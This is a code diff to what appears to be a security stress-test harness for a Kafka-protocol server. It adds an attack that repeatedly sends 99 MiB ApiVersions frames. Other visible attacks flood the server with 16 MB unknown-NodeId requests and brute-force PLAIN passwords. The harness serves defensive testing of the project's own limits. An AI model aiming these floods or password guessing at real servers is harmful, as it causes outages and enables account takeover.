@@ -34,6 +34,7 @@ The second round (docs/security.md, "Second round"):
   the bystander is a 2,000 x 3 CreateReplicaAssignment;
 - ``node-id-echo``: 4,000,000 unknown NodeIds in one request (16 MB), again and again; the attacker
   prints the answer's size;
+- ``near-max-frames``: ApiVersions frames of 99 MiB (a long client software name), again and again;
 - ``plain-brute-force``: 50 connections guessing PLAIN passwords, each guess on a new connection (a
   failed authentication closes it), on a SASL_PLAINTEXT listener with the default limits; the attacker
   prints the guesses per second and the server's CPU share.
@@ -398,6 +399,11 @@ def attack_node_id_echo(port: int, stop: threading.Event, connections: int) -> N
     print(f"# node-id-echo: request {len(data):,} bytes, answers of {sorted(set(sizes))} bytes", flush=True)
 
 
+def attack_near_max_frames(port: int, stop: threading.Event, connections: int) -> None:
+    data = _encoded(ApiVersionsRequest(version=3, client_software_name="n" * (99 << 20), client_software_version="1"))
+    _until(stop, lambda: _send_until_answered_or_closed(port, data))
+
+
 def _plain_guess(port: int) -> None:
     with socket.create_connection((HOST, port), timeout=30) as sock:
         sock.sendall(_framed(_header(17, 1, 1, False) + struct.pack(">h", 5) + b"PLAIN"))
@@ -450,6 +456,7 @@ ATTACKS: dict[str, Callable[[int, threading.Event, int], None]] = {
     "unread-answers": attack_unread_answers,
     "node-id-echo": attack_node_id_echo,
     "plain-brute-force": attack_plain_brute_force,
+    "near-max-frames": attack_near_max_frames,
 }
 # attacks whose bystander sends something else than a small ApiVersions
 BYSTANDER_FRAMES: dict[str, Callable[[], bytes]] = {
